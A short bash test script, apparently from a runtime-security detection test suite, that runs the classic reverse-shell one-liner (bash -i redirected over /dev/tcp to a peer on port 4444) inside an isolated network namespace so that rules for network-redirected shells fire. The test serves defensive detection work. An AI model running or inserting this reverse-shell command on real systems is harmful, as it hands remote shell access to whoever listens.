#!/bin/bash
# The classic reverse shell: bash -i with its standard streams on a TCP connection.
# expect: Redirect STDOUT/STDIN to Network Connection on Host
# expect: System procs network activity
. "${0%/*}/lib.bash"

setup() { netns_setup --tcp 4444; }
teardown() { netns_teardown; }

run() {
    # the peer closes the connection at once: the shell gets end of file (or SIGPIPE) and exits
    bash -i >& /dev/tcp/$PEER_IP/4444 0>&1 || true
}

main "$@"
